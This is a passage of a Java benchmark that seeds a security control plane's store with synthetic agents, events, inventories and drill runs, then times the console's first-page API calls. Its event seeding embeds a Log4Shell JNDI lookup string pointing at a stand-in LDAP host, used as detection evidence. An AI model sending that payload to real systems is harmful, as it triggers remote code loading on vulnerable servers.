package secplane.bench.console;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import secplane.protocol.json.Json;
import secplane.server.ControlPlane;
import secplane.server.ServerConfig;
import secplane.server.store.JdbcStore;

/**
 * The console's first page loads at fleet scale (issue 11 item 6): a control plane's H2 file store seeded
 * with 1,000 agents and 1,000,000 events over 7 days (plus inventories, audit, data map, drill runs,
 * policies, rollouts and a virtual patch), then every API call each console page makes on first load,
 * timed over HTTP with an operator token, against the naive calls on the same data in the same run.
 *
 * <pre>java -cp bench.jar secplane.bench.console.ConsoleBench [--agents 1000] [--events 1000000] [--repeat 20] [--dir DIR]</pre>
 */
public final class ConsoleBench {
    static final String[] SERVICES = {"orders", "payments", "shop", "crm", "billing", "search", "gateway", "ledger"};
    static final String[] JDKS = {"17.0.15 (Eclipse Adoptium)", "21.0.7 (Eclipse Adoptium)", "11.0.27 (Debian)", "1.8.0_452 (Temurin)", "25 (Temurin)"};
    static final String[] AGENT_VERSIONS = {"0.1.0", "0.1.1", "0.2.0"};
    static final String[] VERDICTS = {"observe", "observe", "observe", "block", "block", "allow", "rewrite"};
    static final String[] ASPECTS = {"jndi", "sql", "process", "deserialization", "file", "xml", "expression", "ssrf", "data"};
    static final String RARE_RULE = "expression.spel-root-object";
    static final long DAY = 86_400_000L;

    private ConsoleBench() {
    }

    public static void main(String[] args) throws Exception {
        int agents = 1000;
        int events = 1_000_000;
        int repeat = 20;
        int naiveRepeat = 3;
        boolean reuse = false;
        Path dir = null;
        for (int i = 0; i < args.length; i++) {
            switch (args[i]) {
                case "--agents" -> agents = Integer.parseInt(args[++i]);
                case "--events" -> events = Integer.parseInt(args[++i]);
                case "--repeat" -> repeat = Integer.parseInt(args[++i]);
                case "--naive-repeat" -> naiveRepeat = Integer.parseInt(args[++i]);
                case "--dir" -> dir = Path.of(args[++i]);
                case "--reuse" -> reuse = true;
                default -> throw new IllegalArgumentException("unknown argument " + args[i]
                        + "; expected --agents N, --events N, --repeat N, --naive-repeat N, --dir DIR or --reuse (time the store seeded by an earlier run in DIR)");
            }
        }
        if (dir == null) {
            dir = Files.createTempDirectory("console-bench");
        }
        System.out.printf("load average at start: %s (2 cores, shared)%n", load());
        ServerConfig config = ServerConfig.defaults(dir).withPort(0);
        long now = System.currentTimeMillis();
        if (reuse) {
            if (!Files.exists(dir.resolve("secplane.mv.db"))) {
                throw new IllegalArgumentException(dir + " holds no seeded store; run once without --reuse");
            }
            String token;
            try (Connection c = DriverManager.getConnection(config.effectiveDbUrl())) {
                c.setAutoCommit(false);
                token = secplane.server.tokens.Tokens.create(c, secplane.server.tokens.Principal.Kind.OPERATOR, secplane.server.tokens.Principal.Role.ADMIN,
                        null, null, "console bench", null, "console bench").token();
                c.commit();
            }
            System.out.printf("reusing the store seeded earlier in %s (%,d MB)%n", dir, Files.size(dir.resolve("secplane.mv.db")) >> 20);
            try (ControlPlane plane = ControlPlane.start(config)) {
                run(new Http("http://127.0.0.1:" + plane.port(), token), config, repeat, naiveRepeat);
            }
            System.out.printf("load average at end: %s%n", load());
            return;
        }
        List<String[]> agentRows;
        long t0 = System.nanoTime();
        try (JdbcStore store = JdbcStore.open(config.effectiveDbUrl(), null, null)) {
            System.out.printf("schema (Flyway V1..V8) on an empty store: %.1f s%n", (System.nanoTime() - t0) / 1e9);
        }
        try (Connection c = DriverManager.getConnection(config.effectiveDbUrl())) {
            c.setAutoCommit(false);
            long s = System.nanoTime();
            agentRows = Seed.agents(c, agents, now);
            Seed.inventories(c, agentRows, now);
            System.out.printf("seeded %,d agents with inventories: %.1f s%n", agents, (System.nanoTime() - s) / 1e9);
            s = System.nanoTime();
            Seed.dropEventIndexes(c);
            Seed.events(c, agentRows, events, now);
            double evSeconds = (System.nanoTime() - s) / 1e9;
            System.out.printf("seeded %,d events over 7 days (JDBC batches of 1000, secondary indexes dropped) with their rollups: %.1f s (%,.0f events/s)%n",
                    events, evSeconds, events / evSeconds);
            s = System.nanoTime();
            Seed.createEventIndexes(c);
            System.out.printf("events' secondary indexes (V1 + V8) built: %.1f s%n", (System.nanoTime() - s) / 1e9);
            s = System.nanoTime();
            Seed.audit(c, 20_000, now);
            Seed.dataMap(c, now);
            Seed.drills(c, now);
            System.out.printf("seeded audit (20,000), data map, drill runs: %.1f s%n", (System.nanoTime() - s) / 1e9);
        }
        System.out.printf("store size: %,d MB%n", Files.size(dir.resolve("secplane.mv.db")) >> 20);

        long start = System.nanoTime();
        try (ControlPlane plane = ControlPlane.start(config)) {
            System.out.printf("control plane started on the seeded store: %.1f s%n", (System.nanoTime() - start) / 1e9);
            String token = plane.bootstrapToken().orElseThrow(() -> new IllegalStateException("the seeded store has no bootstrap admin token"));
            Http http = new Http("http://127.0.0.1:" + plane.port(), token);
            Seed.policies(http, config, agentRows);
            run(http, config, repeat, naiveRepeat);
        }
        System.out.printf("load average at end: %s%n", load());
    }

    record Call(String page, String name, String path) {
    }

    static void run(Http http, ServerConfig config, int repeat, int naiveRepeat) throws Exception {
        long now = System.currentTimeMillis();
        String dayAgo = iso((now - DAY) / 60_000L * 60_000L);
        String weekAgo = iso((now - 7 * DAY) / DAY * DAY); // a UTC midnight: answered from the per-day rollup
        String newest = (String) http.json("/v1/events?limit=1").get("newest");
        List<Call> calls = List.of(
                new Call("Fleet", "fleet summary", "/v1/agents/summary"),
                new Call("Fleet", "agents, first page of 50", "/v1/agents?limit=50"),
                new Call("Events", "events, first page of 50", "/v1/events?limit=50"),
                new Call("Events", "counts by verdict per minute, 24 h", "/v1/events/counts?by=verdict&bucket=minute&from=" + dayAgo),
                new Call("Events", "blocks by rule per day, 7 days (from a UTC midnight)", "/v1/events/counts?by=rule&verdict=block&bucket=day&from=" + weekAgo),
                new Call("Events", "\"after\" poll", "/v1/events?after=" + newest),
                new Call("Events", "rare rule, first page", "/v1/events?rule=" + RARE_RULE + "&limit=50"),
                new Call("Policies", "policies", "/v1/policies?limit=50"),
                new Call("Policies", "rollouts", "/v1/rollouts"),
                new Call("Exposure", "exposure overview", "/v1/exposure"),
                new Call("Exposure", "one advisory's instances, page of 50", "/v1/exposure/CVE-2021-44228?limit=50"),
                new Call("Exposure", "burn-down, hourly, 7 days", "/v1/exposure/CVE-2021-44228/burndown"),
                new Call("Data", "data map, page of 50", "/v1/data/map?limit=50"),
                new Call("Data", "flows, page of 50", "/v1/data/flows?limit=50"),
                new Call("Data", "levels", "/v1/data/levels"),
                new Call("Drills", "runs, page of 50", "/v1/drills/runs?limit=50"),
                new Call("Drills", "trend", "/v1/drills/trend"),
                new Call("Audit", "audit, page of 50", "/v1/audit?limit=50"),
                new Call("Audit", "audit filtered by action", "/v1/audit?action=policy.push&limit=50"));
        // The naive calls: what a console without this work would ask for (every row, or counting by scanning the events).
        List<Call> naive = List.of(
                new Call("Fleet", "every agent (aggregated in the browser)", "/v1/agents"),
                new Call("Events", "events, first page of 50", "/v1/events?limit=50"),
                new Call("Events", "counts by verdict per minute, 24 h, GROUP BY over events", "/v1/events/counts?by=verdict&bucket=minute&instance=&from=" + dayAgo),
                new Call("Events", "blocks by rule per day, 7 days, GROUP BY over events", "/v1/events/counts?by=rule&verdict=block&bucket=day&instance=&from=" + weekAgo),
                new Call("Events", "poll by time (from=)", "/v1/events?limit=50&from=" + iso(now - 2000)),
                new Call("Events", "rare rule, first page", "/v1/events?rule=" + RARE_RULE + "&limit=50"),
                new Call("Policies", "policies", "/v1/policies?limit=50"),
                new Call("Policies", "rollouts", "/v1/rollouts"),
                new Call("Exposure", "exposure overview", "/v1/exposure"),
                new Call("Exposure", "one advisory, every instance", "/v1/exposure/CVE-2021-44228"),
                new Call("Data", "whole data map", "/v1/data/map"),
                new Call("Data", "flows of one type", "/v1/data/flows?type=CN_MOBILE"),
                new Call("Data", "data metrics (levels)", "/v1/data/metrics"),
                new Call("Drills", "runs, page of 50", "/v1/drills/runs?limit=50"),
                new Call("Audit", "audit, page of 50", "/v1/audit?limit=50"),
                new Call("Audit", "audit filtered by action", "/v1/audit?action=policy.push&limit=50"));
        // warm-up, not timed: each call twice, each naive call once (JIT, H2 page cache)
        for (int w = 0; w < 2; w++) {
            for (Call c : calls) {
                http.time(c.path());
            }
        }
        for (Call c : naive) {
            http.time(c.path());
        }
        Map<String, long[]> pageRounds = new LinkedHashMap<>();
        Map<String, long[]> naiveRounds = new LinkedHashMap<>();
        Map<Call, long[]> callTimes = new LinkedHashMap<>();
        Map<Call, long[]> naiveTimes = new LinkedHashMap<>();
        for (Call c : calls) {
            callTimes.put(c, new long[repeat]);
            pageRounds.putIfAbsent(c.page(), new long[repeat]);
        }
        for (Call c : naive) {
            naiveTimes.put(c, new long[naiveRepeat]);
            naiveRounds.putIfAbsent(c.page(), new long[naiveRepeat]);
        }
        long[] jdbcCount = new long[naiveRepeat];
        long[] jdbcOffset = new long[naiveRepeat];
        // interleaved rounds: the first naiveRepeat rounds time the naive set too, so load changes hit both alike
        // (the naive scans of 10^6 events take seconds to minutes each, hence fewer rounds of them)
        for (int r = 0; r < repeat; r++) {
            for (Call c : calls) {
                long ns = http.time(c.path());
                callTimes.get(c)[r] = ns;
                pageRounds.get(c.page())[r] += ns;
            }
            if (r >= naiveRepeat) {
                continue;
            }
            System.out.printf("  round %d: naive calls%n", r + 1);
            for (Call c : naive) {
                long ns = http.time(c.path());
                naiveTimes.get(c)[r] = ns;
                naiveRounds.get(c.page())[r] += ns;
            }
            try (Connection c = DriverManager.getConnection(config.effectiveDbUrl()); Statement st = c.createStatement()) {
                long s = System.nanoTime();
                try (ResultSet rs = st.executeQuery("SELECT COUNT(*) FROM events")) {
                    rs.next();
                }
                jdbcCount[r] = System.nanoTime() - s;
                s = System.nanoTime();
                try (ResultSet rs = st.executeQuery("SELECT body FROM events ORDER BY at DESC, id DESC LIMIT 50 OFFSET 500000")) {
                    while (rs.next()) {
                        rs.getString(1);
                    }
                }
                jdbcOffset[r] = System.nanoTime() - s;
            }
        }
        System.out.printf("%nper call (ms over %d rounds; after 2 warm-up rounds):%n", repeat);
        System.out.printf("%-9s %-58s %8s %8s %8s %10s%n", "page", "call", "p50", "p95", "max", "bytes");
        for (Call c : calls) {
            long[] t = callTimes.get(c);
            System.out.printf("%-9s %-58s %8.1f %8.1f %8.1f %,10d%n", c.page(), c.name(), p(t, 50), p(t, 95), max(t), http.bytes(c.path()));
        }
        System.out.printf("%nbaseline, naive calls on the same data in the first %d of the same rounds:%n", naiveRepeat);
        for (Call c : naive) {
            long[] t = naiveTimes.get(c);
            System.out.printf("%-9s %-58s %8.1f %8.1f %8.1f %,10d%n", c.page(), c.name(), p(t, 50), p(t, 95), max(t), http.bytes(c.path()));
        }
        System.out.printf("%-9s %-58s %8.1f %8.1f %8.1f%n", "Events", "JDBC: SELECT COUNT(*) FROM events (a total for OFFSET paging)", p(jdbcCount, 50), p(jdbcCount, 95), max(jdbcCount));
        System.out.printf("%-9s %-58s %8.1f %8.1f %8.1f%n", "Events", "JDBC: page 10,001 by OFFSET 500000 LIMIT 50", p(jdbcOffset, 50), p(jdbcOffset, 95), max(jdbcOffset));
        System.out.printf("%nper page (sum of the page's calls, issued one after another; ms):%n");
        System.out.printf("%-9s %8s %8s %8s %-12s | %14s %14s %8s%n", "page", "p50", "p95", "max", "p95 <= 1 s", "naive p50", "naive p95", "naive/new");
        for (Map.Entry<String, long[]> e : pageRounds.entrySet()) {
            long[] t = e.getValue();
            long[] n = naiveRounds.get(e.getKey());
            System.out.printf("%-9s %8.1f %8.1f %8.1f %-12s | %14.1f %14.1f %8.2f%n", e.getKey(), p(t, 50), p(t, 95), max(t), p(t, 95) <= 1000.0 ? "PASS" : "FAIL",
                    p(n, 50), p(n, 95), p(n, 50) / p(t, 50));
        }
    }

    static double p(long[] ns, int pct) {
        long[] s = ns.clone();
        Arrays.sort(s);
        int i = (int) Math.ceil(pct / 100.0 * s.length) - 1;
        return s[Math.max(0, Math.min(s.length - 1, i))] / 1e6;
    }

    static double max(long[] ns) {
        return Arrays.stream(ns).max().orElse(0) / 1e6;
    }

    static String iso(long millis) {
        return Instant.ofEpochMilli(millis).toString();
    }

    static String load() {
        try {
            return Files.readString(Path.of("/proc/loadavg")).trim();
        } catch (Exception e) {
            return "unknown";
        }
    }

    /** An HTTP client with the operator token; every call must answer 200. */
    static final class Http {
        private final HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
        private final String base;
        private final String token;
        private final Map<String, Integer> sizes = new LinkedHashMap<>();

        Http(String base, String token) {
            this.base = base;
            this.token = token;
        }

        HttpResponse<byte[]> send(String method, String path, Object body) throws Exception {
            HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(120)).header("Authorization", "Bearer " + token);
            if (body != null) {
                b.header("Content-Type", "application/json").method(method, HttpRequest.BodyPublishers.ofString(Json.write(body)));
            } else {
                b.method(method, HttpRequest.BodyPublishers.noBody());
            }
            return client.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
        }

        long time(String path) throws Exception {
            long s = System.nanoTime();
            HttpResponse<byte[]> r = send("GET", path, null);
            long ns = System.nanoTime() - s;
            if (r.statusCode() != 200) {
                throw new IllegalStateException(path + " answered " + r.statusCode() + ": " + new String(r.body(), StandardCharsets.UTF_8));
            }
            sizes.put(path, r.body().length);
            return ns;
        }

        int bytes(String path) {
            return sizes.getOrDefault(path, 0);
        }

        @SuppressWarnings("unchecked")
        Map<String, Object> json(String path) throws Exception {
            HttpResponse<byte[]> r = send("GET", path, null);
            if (r.statusCode() != 200) {
                throw new IllegalStateException(path + " answered " + r.statusCode() + ": " + new String(r.body(), StandardCharsets.UTF_8));
            }
            return (Map<String, Object>) Json.parse(new String(r.body(), StandardCharsets.UTF_8));
        }

        @SuppressWarnings("unchecked")
        Map<String, Object> post(String path, Object body) throws Exception {
            HttpResponse<byte[]> r = send("POST", path, body);
            if (r.statusCode() / 100 != 2) {
                throw new IllegalStateException("POST " + path + " answered " + r.statusCode() + ": " + new String(r.body(), StandardCharsets.UTF_8));
            }
            return (Map<String, Object>) Json.parse(new String(r.body(), StandardCharsets.UTF_8));
        }

        static String enc(String s) {
            return URLEncoder.encode(s, StandardCharsets.UTF_8);
        }
    }

    /** Seeding with JDBC batches straight into the server's schema, and the policy steps over the API. */
    static final class Seed {
        private Seed() {
        }

        /** Agents: [id, service, instanceId]. */
        static List<String[]> agents(Connection c, int n, long now) throws Exception {
            SplittableRandom rnd = new SplittableRandom(1);
            List<String[]> out = new ArrayList<>();
            try (PreparedStatement svc = c.prepareStatement("INSERT INTO services (name, last_version, created_at) VALUES (?,0,?)")) {
                for (String s : SERVICES) {
                    svc.setString(1, s);
                    svc.setLong(2, now - 30 * DAY);
                    svc.addBatch();
                }
                svc.executeBatch();
            }
            try (PreparedStatement ps = c.prepareStatement("INSERT INTO agents (id, service, instance_id, host, pid, jvm, agent_version, labels, enrolled_at, "
                    + "last_contact, applied_version, applied_at, events_dropped, aspects) VALUES (?,?,?,?,?,?,?,?,?,?,0,NULL,0,?)")) {
                for (int i = 0; i < n; i++) {
                    // uneven services: the first ones hold most instances
                    String service = SERVICES[Math.min(SERVICES.length - 1, (int) (Math.abs(rnd.nextGaussian()) * 2.5))];
                    String id = String.format("ag-%012d", i);
                    String instance = service + "-" + i;
                    boolean stale = rnd.nextInt(100) < 5;
                    boolean quarantined = rnd.nextInt(100) < 3;
                    List<Object> aspects = new ArrayList<>();
                    for (String a : List.of("jndi", "sql", "process", "deserialization", "data")) {
                        aspects.add(Map.of("id", a, "version", "1.0.0", "state", quarantined && a.equals("sql") ? "quarantined" : "active"));
                    }
                    ps.setString(1, id);
                    ps.setString(2, service);
                    ps.setString(3, instance);
                    ps.setString(4, "node-" + (i % 97));
                    ps.setLong(5, 1000 + i);
                    ps.setString(6, JDKS[rnd.nextInt(100) < 60 ? 0 : rnd.nextInt(JDKS.length)]);
                    ps.setString(7, AGENT_VERSIONS[rnd.nextInt(100) < 70 ? 2 : rnd.nextInt(2)]);
                    ps.setString(8, Json.write(Map.of("zone", i % 2 == 0 ? "a" : "b")));
                    ps.setLong(9, now - 20 * DAY);
                    ps.setLong(10, stale ? now - 3_600_000L - rnd.nextInt(86_400_000) : now - rnd.nextInt(20_000));
                    ps.setString(11, Json.write(aspects));
                    ps.addBatch();
                    out.add(new String[] {id, service, instance});
                }
                ps.executeBatch();
            }
            c.commit();
            return out;
        }

        /** Each agent's inventory: three jars; log4j-core 2.14.1 (exposed to CVE-2021-44228) on one in five. */
        static void inventories(Connection c, List<String[]> agents, long now) throws Exception {
            try (PreparedStatement inv = c.prepareStatement("INSERT INTO inventories (agent_id, version, hash, collected_at, received_at, jdk, app_server, jars) VALUES (?,1,?,?,?,?,?,3)");
                 PreparedStatement jar = c.prepareStatement("INSERT INTO inventory_jars (agent_id, seq, path, kind, size, sha256, error) VALUES (?,?,?,?,?,?,NULL)");
                 PreparedStatement comp = c.prepareStatement("INSERT INTO inventory_components (agent_id, seq, grp, artifact, version, source, relocated_to) VALUES (?,?,?,?,?,?,NULL)")) {
                int i = 0;
                for (String[] a : agents) {
                    inv.setString(1, a[0]);
                    inv.setString(2, "0".repeat(64));
                    inv.setLong(3, now - DAY);
                    inv.setLong(4, now - DAY);
                    inv.setString(5, "{\"vendor\":\"Eclipse Adoptium\",\"version\":\"17.0.15\"}");
                    inv.setString(6, null);
                    inv.addBatch();
                    String[][] jars = {{"org.apache.logging.log4j", "log4j-core", i % 5 == 0 ? "2.14.1" : "2.17.1"},
                            {"com.fasterxml.jackson.core", "jackson-databind", "2.15.2"}, {"org.springframework", "spring-core", "5.3.30"}};
                    for (int s = 0; s < jars.length; s++) {
                        jar.setString(1, a[0]);
                        jar.setInt(2, s);
                        jar.setString(3, "/srv/app/lib/" + jars[s][1] + "-" + jars[s][2] + ".jar");
                        jar.setString(4, "jar");
                        jar.setLong(5, 1_000_000 + s);
                        jar.setString(6, String.format("%064x", i * 3L + s));
                        jar.addBatch();
                        comp.setString(1, a[0]);
                        comp.setInt(2, s);
                        comp.setString(3, jars[s][0]);
                        comp.setString(4, jars[s][1]);
                        comp.setString(5, jars[s][2]);
                        comp.setString(6, "pom.properties");
                        comp.addBatch();
                    }
                    i++;
                }
                inv.executeBatch();
                jar.executeBatch();
                comp.executeBatch();
            }
            c.commit();
        }

        /** Events over the last 7 days: realistic bodies with evidence, request and a stack; one rule is rare. */
        static void events(Connection c, List<String[]> agents, int n, long now) throws Exception {
            SplittableRandom rnd = new SplittableRandom(2);
            List<String> rules = new ArrayList<>();
            for (String a : ASPECTS) {
                for (int r = 0; r < 4; r++) {
                    rules.add(a + ".rule-" + r);
                }
            }
            long span = 7 * DAY;
            Map<List<Object>, long[]> minute = new java.util.HashMap<>();
            Map<List<Object>, long[]> hour = new java.util.HashMap<>();
            Map<List<Object>, long[]> day = new java.util.HashMap<>();
            Map<List<Object>, long[]> verdicts = new java.util.HashMap<>();
            try (PreparedStatement ps = c.prepareStatement("INSERT INTO events (id, batch_id, agent_id, service, instance_id, at, type, join_point, aspect, rule_id, "
                    + "verdict, body, received_at, drill) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,NULL)")) {
                for (int i = 0; i < n; i++) {
                    String[] agent = agents.get(Math.min(agents.size() - 1, (int) (Math.abs(rnd.nextGaussian()) * agents.size() / 3)));
                    long at = now - span + (long) i * span / n + rnd.nextInt(1000);
                    // one event in 20,000 is of the rare rule
                    String rule = i % 20_000 == 7 ? RARE_RULE : rules.get(Math.min(rules.size() - 1, (int) (Math.abs(rnd.nextGaussian()) * rules.size() / 3)));
                    String aspect = rule.substring(0, rule.indexOf('.'));
                    String verdict = VERDICTS[rnd.nextInt(VERDICTS.length)];
                    String type = rnd.nextInt(100) < 95 ? "verdict" : "budget";
                    String id = String.format("ev-%08d-%04x", i, rnd.nextInt(65536));
                    Map<String, Object> body = new LinkedHashMap<>();
                    body.put("id", id);
                    body.put("time", iso(at));
                    body.put("type", type);
                    body.put("joinPoint", aspect + ".call");
                    body.put("aspect", aspect);
                    body.put("rule", rule);
                    body.put("verdict", verdict);
                    body.put("message", "suspicious input reached " + aspect);
                    body.put("evidence", Map.of("value", "${jndi:ldap://203.0.113." + rnd.nextInt(255) + ":1389/a}", "source", "query name"));
                    body.put("request", Map.of("method", "GET", "path", "/api/items/" + rnd.nextInt(1000), "client", "198.51.100." + rnd.nextInt(255)));
                    body.put("stack", List.of("org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)",
                            "org.apache.logging.log4j.core.lookup.Interpolator.lookup(Interpolator.java:223)",
                            "org.apache.logging.log4j.core.pattern.MessagePatternConverter.format(MessagePatternConverter.java:127)",
                            "com.example.shop.ItemController.get(ItemController.java:41)",
                            "org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:897)"));
                    ps.setString(1, id);
                    ps.setString(2, "b-" + (i / 100));
                    ps.setString(3, agent[0]);
                    ps.setString(4, agent[1]);
                    ps.setString(5, agent[2]);
                    ps.setLong(6, at);
                    ps.setString(7, type);
                    ps.setString(8, aspect + ".call");
                    ps.setString(9, aspect);
                    ps.setString(10, rule);
                    ps.setString(11, verdict);
                    ps.setString(12, Json.write(body));
                    ps.setLong(13, at + 500 + rnd.nextInt(4000));
                    ps.addBatch();
                    minute.computeIfAbsent(List.of(at / 60_000L * 60_000L, agent[1], verdict, type), k -> new long[1])[0]++;
                    hour.computeIfAbsent(List.of(at / 3_600_000L * 3_600_000L, agent[1], rule, verdict, type), k -> new long[1])[0]++;
                    day.computeIfAbsent(List.of(at / DAY * DAY, agent[1], rule, verdict, type), k -> new long[1])[0]++;
                    verdicts.computeIfAbsent(List.of(at / 60_000L * 60_000L, verdict), k -> new long[1])[0]++;
                    if (i % 1000 == 999) {
                        ps.executeBatch();
                        c.commit();
                    }
                    if (i % 200_000 == 199_999) {
                        System.out.printf("  %,d events%n", i + 1);
                    }
                }
                ps.executeBatch();
            }
            c.commit();
            rollup(c, minute, hour, day, verdicts);
        }

        // The events' secondary indexes as V1 and V8 define them: dropped while seeding, built once after.
        static final String[] EVENT_INDEXES = {
            "events_at ON events (at, id)", "events_service_at ON events (service, at, id)", "events_rule_at ON events (rule_id, at, id)",
            "events_verdict_at ON events (verdict, at, id)", "events_type_at ON events (type, at, id)", "events_agent_at ON events (agent_id, at, id)",
            "events_received ON events (received_at, id)", "events_drill ON events (drill)"};

        static void dropEventIndexes(Connection c) throws Exception {
            try (Statement st = c.createStatement()) {
                for (String ix : EVENT_INDEXES) {
                    st.execute("DROP INDEX " + ix.substring(0, ix.indexOf(' ')));
                }
            }
            c.commit();
        }

        static void createEventIndexes(Connection c) throws Exception {
            try (Statement st = c.createStatement()) {
                for (String ix : EVENT_INDEXES) {
                    st.execute("CREATE INDEX " + ix);
                }
            }
            c.commit();
        }

        /** The rollup rows of the seeded events, counted as the ingest counts them. */
        static void rollup(Connection c, Map<List<Object>, long[]> minute, Map<List<Object>, long[]> hour, Map<List<Object>, long[]> day,
                           Map<List<Object>, long[]> verdicts) throws Exception {
            try (PreparedStatement v = c.prepareStatement("INSERT INTO event_counts_verdict (bucket, verdict, drill, n) VALUES (?,?,0,?)")) {
                for (Map.Entry<List<Object>, long[]> e : verdicts.entrySet()) {
                    v.setLong(1, (Long) e.getKey().get(0));
                    v.setString(2, (String) e.getKey().get(1));
                    v.setLong(3, e.getValue()[0]);
                    v.addBatch();
                }
                v.executeBatch();
            }
            try (PreparedStatement m = c.prepareStatement("INSERT INTO event_counts (bucket, service, verdict, type, drill, n) VALUES (?,?,?,?,0,?)");
                 PreparedStatement h = c.prepareStatement("INSERT INTO event_counts_hour (bucket, service, rule_id, verdict, type, drill, n) VALUES (?,?,?,?,?,0,?)");
                 PreparedStatement d = c.prepareStatement("INSERT INTO event_counts_day (bucket, service, rule_id, verdict, type, drill, n) VALUES (?,?,?,?,?,0,?)")) {
                for (Map.Entry<List<Object>, long[]> e : minute.entrySet()) {
                    List<Object> k = e.getKey();
                    m.setLong(1, (Long) k.get(0));
                    m.setString(2, (String) k.get(1));
                    m.setString(3, (String) k.get(2));
                    m.setString(4, (String) k.get(3));
                    m.setLong(5, e.getValue()[0]);
                    m.addBatch();
                }
                m.executeBatch();
                for (Object[] t : new Object[][] {{h, hour}, {d, day}}) {
                    PreparedStatement ps = (PreparedStatement) t[0];
                    @SuppressWarnings("unchecked")
                    Map<List<Object>, long[]> cells = (Map<List<Object>, long[]>) t[1];
                    for (Map.Entry<List<Object>, long[]> e : cells.entrySet()) {
                        List<Object> k = e.getKey();
                        ps.setLong(1, (Long) k.get(0));
                        ps.setString(2, (String) k.get(1));
                        ps.setString(3, (String) k.get(2));
                        ps.setString(4, (String) k.get(3));
                        ps.setString(5, (String) k.get(4));
                        ps.setLong(6, e.getValue()[0]);
                        ps.addBatch();
                    }
                    ps.executeBatch();
                }
            }
            c.commit();
            System.out.printf("  rollup rows: %,d per minute, %,d per hour, %,d per day, %,d per minute and verdict%n", minute.size(), hour.size(), day.size(), verdicts.size());
        }

        static void audit(Connection c, int n, long now) throws Exception {
            String[] actions = {"policy.push", "token.create", "rollout.pause", "patch.apply", "advisories.import", "drill.start", "token.revoke"};
            try (PreparedStatement ps = c.prepareStatement("INSERT INTO audit (at, actor, action, target, before_state, after_state) VALUES (?,?,?,?,NULL,?)")) {
                for (int i = 0; i < n; i++) {
                    ps.setLong(1, now - 30 * DAY + (long) i * 30 * DAY / n);
                    ps.setString(2, "operator:op-" + (i % 12) + " (ops-" + (i % 12) + ")");
                    ps.setString(3, actions[i % actions.length]);
                    ps.setString(4, "service/" + SERVICES[i % SERVICES.length]);
                    ps.setString(5, "{\"version\":" + i + "}");
                    ps.addBatch();
                }
                ps.executeBatch();
            }
            c.commit();
        }

        static void dataMap(Connection c, long now) throws Exception {
            String[] types = {"CN_RESIDENT_ID", "CN_MOBILE", "CN_BANK_CARD", "EMAIL", "CN_NAME", "CN_ADDRESS"};
            try (PreparedStatement a = c.prepareStatement("INSERT INTO data_assets (service, kind, name, data_type, day_utc, lvl, reports, suppressed, vals, first_seen, last_seen) VALUES (?,?,?,?,?,?,?,?,?,?,?)");
                 PreparedStatement f = c.prepareStatement("INSERT INTO data_flows (service, kind, name, data_type, source, consumer, reports, suppressed, vals, first_seen, last_seen) VALUES (?,?,?,?,?,?,?,?,?,?,?)")) {
                for (String s : SERVICES) {
                    for (int e = 0; e < 40; e++) {
                        String name = "GET /api/" + s + "/resource-" + e + "/{id}";
                        for (int t = 0; t < 2; t++) {
                            String type = types[(e + t) % types.length];
                            for (int d = 0; d < 7; d++) {
                                long day = (now / DAY - d) * DAY;
                                a.setString(1, s);
                                a.setString(2, "endpoint");
                                a.setString(3, name);
                                a.setString(4, type);
                                a.setString(5, Instant.ofEpochMilli(day).toString().substring(0, 10));
                                a.setInt(6, type.startsWith("CN_") ? 3 : 2);
                                a.setLong(7, 100 + d);
                                a.setLong(8, 3);
                                a.setLong(9, 250);
                                a.setLong(10, day);
                                a.setLong(11, day + DAY - 1);
                                a.addBatch();
                            }
                            for (String consumer : List.of("role clerk, private network", "no role, public network")) {
                                f.setString(1, s);
                                f.setString(2, "endpoint");
                                f.setString(3, name);
                                f.setString(4, type);
                                f.setString(5, "customers." + type.toLowerCase());
                                f.setString(6, consumer);
                                f.setLong(7, 700);
                                f.setLong(8, 21);
                                f.setLong(9, 1750);
                                f.setLong(10, now - 7 * DAY);
                                f.setLong(11, now);
                                f.addBatch();
                            }
                        }
                    }
                }
                a.executeBatch();
                f.executeBatch();
            }
            c.commit();
        }

        static void drills(Connection c, long now) throws Exception {
            try (PreparedStatement t = c.prepareStatement("INSERT INTO drill_targets (url, service, created_at, created_by) VALUES (?,?,?,?)");
                 PreparedStatement r = c.prepareStatement("INSERT INTO drill_runs (id, target, service, suite, secret_hash, created_at, created_by, finished_at, result) VALUES (?,?,?,?,?,?,?,?,?)")) {
                for (int s = 0; s < 5; s++) {
                    String url = "http://10.0.0." + (s + 1) + ":8080";
                    t.setString(1, url);
                    t.setString(2, SERVICES[s]);
                    t.setLong(3, now - 90 * DAY);
                    t.setString(4, "admin");
                    t.addBatch();
                    for (int i = 0; i < 60; i++) {
                        long at = now - 90 * DAY + i * 36 * 3_600_000L;
                        List<Object> cats = new ArrayList<>();
                        for (String cat : List.of("sql", "command", "jndi", "xss", "ssrf", "xxe", "deserialization", "path", "spel", "ognl", "ldap", "xpath", "exfiltration")) {
                            int blocked = Math.min(10, 5 + i / 10);
                            cats.add(Map.of("category", cat, "cases", 10, "detected", Math.min(10, blocked + 1), "blocked", blocked, "missed", 10 - Math.min(10, blocked + 1), "errors", 0));
                        }
                        String id = "dr-" + s + "-" + i;
                        r.setString(1, id);
                        r.setString(2, url);
                        r.setString(3, SERVICES[s]);
                        r.setString(4, "sql,command,jndi");
                        r.setString(5, "0".repeat(64));
                        r.setLong(6, at);
                        r.setString(7, "operator:op-1");
                        r.setLong(8, at + 600_000);
                        r.setString(9, Json.write(Map.of("format", "secplane-drill/1", "drill", Map.of("id", id, "target", url), "categories", cats, "cases", List.of())));
                        r.addBatch();
                    }
                }
                t.executeBatch();
                r.executeBatch();
            }
            c.commit();
        }

        /**
         * Over the API: two policy versions per service (the second staged, so rollouts exist), most agents ACK
